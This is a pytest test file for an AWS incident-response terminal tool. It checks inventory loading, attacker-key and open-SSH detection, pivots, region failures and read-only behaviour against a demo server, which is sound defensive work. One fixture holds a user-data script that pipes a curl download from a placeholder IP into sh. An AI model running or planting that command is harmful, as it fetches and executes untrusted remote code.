"""The EC2 data layer against the demo account over real HTTP: the incident's answers."""

from __future__ import annotations

import base64
import gzip

import pytest

from awsir_tui.aws import ec2
from awsir_tui.aws.context import AwsContext
from awsir_tui.aws.details import instance_details
from awsir_tui.aws.errors import FailureKind
from awsir_tui.aws.inventory import Inventory, Kind, Pivot, RegionStatus
from awsir_tui.demo.faulty_link import FaultyLink
from awsir_tui.demo.server import DemoServer
from awsir_tui.query import compile_predicate, parse
from awsir_tui.query.fields import INSTANCE_FIELDS
from awsir_tui.sg_rules import OPEN_TO_WORLD
from tests.helpers_app import demo_context


@pytest.fixture
def ctx(demo: DemoServer) -> AwsContext:
    return demo_context(demo)

pytestmark = pytest.mark.usefixtures("demo")


def open_rules(group: dict) -> list[str]:
    """The inbound rules the details flag OPEN: ``["tcp/22 from 0.0.0.0/0"]``."""
    return [rule.text for rule in ec2.rule_lines(group) if rule.world]


async def everything(inventory: Inventory, kind: Kind) -> list[dict]:
    outcomes = await inventory.load(kind)
    assert all(outcome.ok for outcome in outcomes), [o.failure for o in outcomes]
    return [item for outcome in outcomes for item in outcome.value or []]


async def test_filter_on_attacker_key_finds_exactly_the_malicious_instance(
    ctx: AwsContext, demo: DemoServer
) -> None:
    facts = demo.facts
    instances = await everything(Inventory(ctx, demo.regions), Kind.INSTANCES)
    assert len(instances) >= 40
    matches = compile_predicate(parse(f"key:{facts.attacker_key_name}"), INSTANCE_FIELDS)
    found = [i for i in instances if matches(i)]
    assert [i["InstanceId"] for i in found] == [facts.malicious_instance_id]
    assert found[0]["Region"] in demo.regions


async def test_attacker_group_flags_ssh_open_to_the_world(
    ctx: AwsContext, demo: DemoServer
) -> None:
    facts = demo.facts
    groups = await everything(Inventory(ctx, demo.regions), Kind.SECURITY_GROUPS)
    attacker = next(g for g in groups if g["GroupId"] == facts.attacker_group_id)
    assert "tcp/22 from 0.0.0.0/0" in open_rules(attacker)
    assert "tcp/22" in attacker[OPEN_TO_WORLD] and ec2.is_open(attacker)
    assert attacker["UsedBy"] == [facts.malicious_instance_id]
    # Egress to anywhere is AWS's default: never flagged as open.
    assert all(" to " not in rule for g in groups for rule in open_rules(g))
    assert all(g[OPEN_TO_WORLD] == ec2.open_ports(g) for g in groups)


async def test_reverse_pivots_from_key_and_group_list_exactly_the_malicious_instance(
    ctx: AwsContext, demo: DemoServer
) -> None:
    facts = demo.facts
    inventory = Inventory(ctx, demo.regions)
    for pivot in (Pivot("key", facts.attacker_key_name), Pivot("group", facts.attacker_group_id)):
        found = await inventory.pivot(pivot)
        assert [i["InstanceId"] for i in found] == [facts.malicious_instance_id], pivot


async def test_profile_pivot_finds_the_proxy(ctx: AwsContext, demo: DemoServer) -> None:
    facts = demo.facts
    inventory = Inventory(ctx, demo.regions)
    instances = await everything(inventory, Kind.INSTANCES)
    proxy = next(i for i in instances if i["InstanceId"] == facts.proxy_instance_id)
    found = await inventory.pivot(Pivot("profile", proxy["IamInstanceProfile"]["Arn"]))
    assert facts.proxy_instance_id in [i["InstanceId"] for i in found]
    assert all(i["IamInstanceProfile"]["Arn"] == proxy["IamInstanceProfile"]["Arn"]
               for i in found)


async def test_unused_groups_and_keys_are_reported_unused(
    ctx: AwsContext, demo: DemoServer
) -> None:
    facts = demo.facts
    inventory = Inventory(ctx, demo.regions)
    groups = await everything(inventory, Kind.SECURITY_GROUPS)
    keys = await everything(inventory, Kind.KEY_PAIRS)
    by_group_name = {g["GroupName"]: g for g in groups}
    for name in facts.unused_group_names:
        assert by_group_name[name]["UsedBy"] == [], name
        assert not ec2.is_used(by_group_name[name]), name
    by_key = {(k["KeyName"]): k for k in keys}
    for name in facts.unused_key_names:
        assert by_key[name]["UsedBy"] == [] and not ec2.is_used(by_key[name]), name
    assert by_key[facts.attacker_key_name]["UsedBy"] == [facts.malicious_instance_id]


async def test_denied_region_is_denied_while_the_others_list_instances(
    ctx: AwsContext, demo: DemoServer
) -> None:
    denied = demo.regions[-1]
    inventory = Inventory(ctx, demo.regions)
    with demo.denying(denied):
        outcomes = {o.region: o for o in await inventory.load(Kind.INSTANCES)}
    assert outcomes[denied].failure is not None
    assert outcomes[denied].failure.kind is FailureKind.DENIED
    states = {s.region: s for s in inventory.states(Kind.INSTANCES)}
    assert states[denied].status is RegionStatus.DENIED
    assert "not authorized" in states[denied].reason
    for region in demo.regions[:-1]:
        assert outcomes[region].ok and outcomes[region].value
        assert states[region].status is RegionStatus.OK
        assert states[region].count == len(outcomes[region].value or [])
    # The denied region is not cached as empty: asking again (allowed now) answers.
    again = {o.region: o for o in await inventory.load(Kind.INSTANCES)}
    assert again[denied].ok and again[denied].value


async def test_cache_answers_without_asking_again_and_refresh_asks(
    ctx: AwsContext, demo: DemoServer
) -> None:
    inventory = Inventory(ctx, demo.regions)
    await inventory.load(Kind.INSTANCES)
    calls = len(ctx.guard.calls)
    await inventory.load(Kind.INSTANCES)
    assert len(ctx.guard.calls) == calls
    await inventory.load(Kind.INSTANCES, refresh=True)
    assert len(ctx.guard.calls) >= calls + len(demo.regions)


def test_details_of_the_proxy_name_role_policies_volumes_and_interfaces(
    ctx: AwsContext, demo: DemoServer
) -> None:
    facts = demo.facts
    details = instance_details(ctx, facts.proxy_region, facts.proxy_instance_id)
    assert details.failures == {}
    assert details.profile is not None
    roles = details.profile.roles
    assert [r.name for r in roles] == [facts.role_name]
    assert roles[0].attached_policies or roles[0].inline_policies
    assert details.volumes and all("Size" in v and "Encrypted" in v for v in details.volumes)
    assert details.volumes[0]["Attachments"][0]["InstanceId"] == facts.proxy_instance_id
    assert any(e["Attachment"]["InstanceId"] == facts.proxy_instance_id
               for e in details.interfaces)
    assert {g["GroupId"] for g in details.groups} == {
        g["GroupId"] for g in details.instance["SecurityGroups"]}
    assert "install squid" in details.user_data  # decoded from base64, shown as text


def test_details_of_the_malicious_instance_show_key_and_open_group(
    ctx: AwsContext, demo: DemoServer
) -> None:
    facts = demo.facts
    region = next(r for r in demo.regions
                  if ec2.describe_instance(ctx, r, facts.malicious_instance_id) is not None)
    details = instance_details(ctx, region, facts.malicious_instance_id)
    assert details.key_pair is not None
    assert details.key_pair["KeyName"] == facts.attacker_key_name
    assert details.key_pair["KeyFingerprint"]
    group = next(g for g in details.groups if g["GroupId"] == facts.attacker_group_id)
    assert "tcp/22 from 0.0.0.0/0" in open_rules(group)


def test_a_section_that_cannot_be_read_says_why_and_the_rest_stays(
    ctx: AwsContext, demo: DemoServer
) -> None:
    facts = demo.facts
    instance = ec2.describe_instance(ctx, facts.proxy_region, facts.proxy_instance_id)
    assert instance is not None
    with demo.denying(facts.proxy_region):  # EC2 denied, IAM still answers
        details = instance_details(ctx, facts.proxy_region, facts.proxy_instance_id, instance)
    assert details.failures["volumes"].kind is FailureKind.DENIED
    assert details.failures["user_data"].kind is FailureKind.DENIED
    assert "profile" not in details.failures and details.profile is not None


async def test_browsing_the_inventory_sends_only_read_operations(
    ctx: AwsContext, demo: DemoServer
) -> None:
    inventory = Inventory(ctx, demo.regions)
    for kind in Kind:
        await inventory.load(kind)
    instance_details(ctx, demo.facts.proxy_region, demo.facts.proxy_instance_id)
    assert ctx.guard.calls
    assert not [c for c in ctx.guard.calls if c.mutating]


def test_user_data_is_decoded_plain_or_gzipped_and_bad_bytes_survive() -> None:
    script = "#!/bin/sh\ncurl http://198.51.100.7/x | sh\n"
    assert ec2.decode_user_data(base64.b64encode(script.encode()).decode()) == script
    zipped = base64.b64encode(gzip.compress(script.encode())).decode()
    assert ec2.decode_user_data(zipped) == script
    assert ec2.decode_user_data(base64.b64encode(b"\xff\xfeok").decode()).endswith("ok")
    assert ec2.decode_user_data("") == ""


def test_rules_name_ports_and_peers() -> None:
    group = {
        "IpPermissions": [
            {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22,
             "IpRanges": [{"CidrIp": "0.0.0.0/0"}, {"CidrIp": "10.0.0.0/8"}]},
            {"IpProtocol": "-1", "Ipv6Ranges": [{"CidrIpv6": "::/0"}]},
            {"IpProtocol": "udp", "FromPort": 1000, "ToPort": 2000,
             "UserIdGroupPairs": [{"GroupId": "sg-1"}]},
        ],
        "IpPermissionsEgress": [{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}],
    }
    assert open_rules(group) == ["tcp/22 from 0.0.0.0/0", "all from ::/0"]
    assert ec2.open_ports(group) == ["tcp/22", "all"]
    assert ("udp/1000-2000", "from", "sg-1", "", False) in ec2.rule_lines(group)
    [outbound] = ec2.rule_lines(group, egress=True)
    assert (outbound.text, outbound.peer, outbound.world) == ("all to 0.0.0.0/0", "0.0.0.0/0",
                                                              True)
    # Each peer is a field of its own, whatever the rule around it: nothing to cut out.
    assert [rule.peer for rule in ec2.rule_lines(group)] == ["0.0.0.0/0", "10.0.0.0/8",
                                                             "::/0", "sg-1"]


async def test_throttled_and_cut_off_regions_are_told_apart_and_sink_nobody(
    demo: DemoServer,
) -> None:
    throttled, dropped, fine = demo.regions
    with FaultyLink(demo.endpoint_url, throttled=frozenset({throttled}),
                       dropped=frozenset({dropped})) as proxy:
        inventory = Inventory(demo_context(demo, endpoint_url=proxy.url), demo.regions)
        outcomes = {o.region: o for o in await inventory.load(Kind.INSTANCES)}
    states = {s.region: s for s in inventory.states(Kind.INSTANCES)}
    assert states[throttled].status is RegionStatus.THROTTLED
    assert states[dropped].status is RegionStatus.FAILED
    assert states[dropped].reason
    assert states[fine].status is RegionStatus.OK and outcomes[fine].value


async def test_each_region_answers_as_it_comes_a_slow_one_last(demo: DemoServer) -> None:
    slow = demo.regions[0]
    with FaultyLink(demo.endpoint_url, slow={slow: 1.5}) as proxy:
        inventory = Inventory(demo_context(demo, endpoint_url=proxy.url), demo.regions)
        order = [outcome.region async for outcome in inventory.stream(Kind.INSTANCES)]
    assert order[-1] == slow
    assert sorted(order) == sorted(demo.regions)
